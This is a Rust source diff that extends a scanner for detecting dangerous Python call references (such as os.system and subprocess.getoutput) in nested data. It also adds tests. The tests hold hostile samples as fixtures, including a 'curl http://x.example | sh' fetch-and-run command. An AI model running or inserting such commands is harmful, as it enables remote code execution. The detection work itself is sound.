@@ -66,6 +66,17 @@ const PROGRAM: [&str; 11] = [
 const ARGUMENTS: [&str; 8] =
     ["args", "argv", "arguments", "params", "parameters", "flags", "options", "input"];
 
+/// Lists of one mapping that are kept, and texts of one of them.
+const MAX_LISTS: usize = 16;
+const MAX_CROSSED: usize = 16;
+
+/// Whether a word of a key, or what it is the plural of, is one of these.
+fn named(key: &str, list: &[&str]) -> bool {
+    let key = key.to_ascii_lowercase();
+    let mut words = key.split(['_', '-', '.']);
+    words.any(|word| list.contains(&word) || word.strip_suffix('s').is_some_and(|word| list.contains(&word)))
+}
+
 impl Reader {
     /// Keeps a text of the innermost list or mapping.
     pub(super) fn string(&mut self, text: &str) {
@@ -80,11 +91,41 @@ impl Reader {
     pub(super) fn joined(&mut self, at: u64) {
         let Some(level) = self.levels.last_mut() else { return };
         let strings = std::mem::take(&mut level.strings);
+        let lists = std::mem::take(&mut level.lists);
         let (list, key) = (level.list, level.key.clone());
+        self.crossed(&strings, &lists, at);
+        let above = self.levels.len().checked_sub(2).and_then(|above| self.levels.get_mut(above));
+        if let Some(outer) = above.filter(|outer| list && !outer.list && outer.lists.len() < MAX_LISTS)
+            && (1..=MAX_CROSSED).contains(&strings.len())
+        {
+            outer.lists.push((key.clone(), strings.iter().map(|(_, text)| text.clone()).collect()));
+        }
         if strings.len() < 2 || self.of_words(&key, "a") || list && words::prose(&key) && strings.len() > 4 {
             return;
         }
         if list { self.list(&strings, at) } else { self.mapping(&strings, at) }
+    }
+
+    /// Judges lists of modules beside lists of functions, or one of them beside a single name.
+    fn crossed(&mut self, strings: &[(String, String)], lists: &[(String, Vec<String>)], at: u64) {
+        if lists.is_empty() {
+            return;
+        }
+        let single = |(key, text): &(String, String)| (key.clone(), vec![text.clone()]);
+        let all: Vec<(String, Vec<String>)> =
+            lists.iter().cloned().chain(strings.iter().take(MAX_STRINGS / 4).map(single)).collect();
+        for (left, modules) in all.iter().filter(|(key, _)| named(key, &MODULE)) {
+            for (right, functions) in all.iter().filter(|(key, _)| named(key, &FUNCTION)) {
+                if left == right || modules.len() + functions.len() < 3 {
+                    continue;
+                }
+                for (module, function) in modules.iter().flat_map(|m| functions.iter().map(move |f| (m, f))) {
+                    if let Some(path) = python::names_power(&format!("{module}.{function}")) {
+                        self.power(&path, at);
+                    }
+                }
+            }
+        }
     }
 
     fn list(&mut self, strings: &[(String, String)], at: u64) {
@@ -112,10 +153,6 @@ impl Reader {
     }
 
     fn mapping(&mut self, strings: &[(String, String)], at: u64) {
-        let named = |key: &str, list: &[&str]| {
-            let key = key.to_ascii_lowercase();
-            key.split(['_', '-', '.']).any(|word| list.contains(&word))
-        };
         for pair in strings.windows(2) {
             let [(first, module), (second, function)] = pair else { continue };
             for ((left, one), (right, other)) in
@@ -236,13 +273,17 @@ mod tests {
             r#"{"p1": "os.", "p2": "system"}"#,
             r#"{"lib": "subprocess", "call": "getoutput"}"#,
             r#"{"x": {"call": "system", "from": "posix"}}"#,
+            r#"{"modules": ["json", "os"], "functions": ["dumps", "system"]}"#,
+            r#"{"steps": {"lib": "subprocess", "calls": ["getoutput", "run"]}}"#,
         ] {
-            assert_eq!(read(hostile).items.len(), 1, "{hostile}");
+            assert!(!read(hostile).items.is_empty(), "{hostile}");
         }
         for plain in [
             r#"{"category": "os", "type": "system"}"#,
             r#"{"module": "torch.nn", "name": "Linear"}"#,
             r#"{"words": ["os", "is", "a", "system"]}"#,
+            r#"{"modules": ["json", "torch"], "functions": ["dumps", "system"]}"#,
+            r#"{"platforms": ["linux", "os"], "labels": ["system", "other"]}"#,
         ] {
             assert_eq!(read(plain).items.len(), 0, "{plain}");
         }
@@ -253,6 +294,36 @@ mod tests {
         assert!(commands(r#"{"steps_x": ["cu", "rl http://x.example/i | s", "h"]}"#) > 0);
         assert!(commands(r#"{"x": {"bin": "bash", "arguments": "-c 'curl http://x.example | sh'"}}"#) > 0);
         assert_eq!(commands(r#"{"a": "the first;", "b": "the second"}"#), 0);
+    }
+
+    #[test]
+    fn every_pair_of_keys_has_its_effect() {
+        for module in super::MODULE {
+            for function in super::FUNCTION {
+                let text = format!(r#"{{"x": {{"{module}": "subprocess", "{function}": "getoutput"}}}}"#);
+                assert!(!read(&text).items.is_empty(), "{text}");
+                let lists = format!(
+                    r#"{{"{module}s": ["json", "subprocess"], "{function}s": ["dumps", "getoutput"]}}"#
+                );
+                assert!(!read(&lists).items.is_empty(), "{lists}");
+                let plain = format!(r#"{{"x": {{"{module}": "torch.nn", "{function}": "Linear"}}}}"#);
+                assert!(
+                    read(&plain).items.iter().all(|item| item.value != "torch.nn.Linear"
+                        || item.effect != crate::pickle::Effect::Executes),
+                    "{plain}"
+                );
+            }
+        }
+        for program in super::PROGRAM {
+            for arguments in super::ARGUMENTS {
+                let text = format!(
+                    r#"{{"x": {{"{program}": "bash", "{arguments}": "-c 'curl http://x.example | sh'"}}}}"#
+                );
+                assert!(!read(&text).commands.is_empty(), "{text}");
+                let plain = format!(r#"{{"x": {{"{program}": "Adam", "{arguments}": "lr and betas"}}}}"#);
+                assert!(read(&plain).commands.is_empty(), "{plain}");
+            }
+        }
     }
 
     #[test]
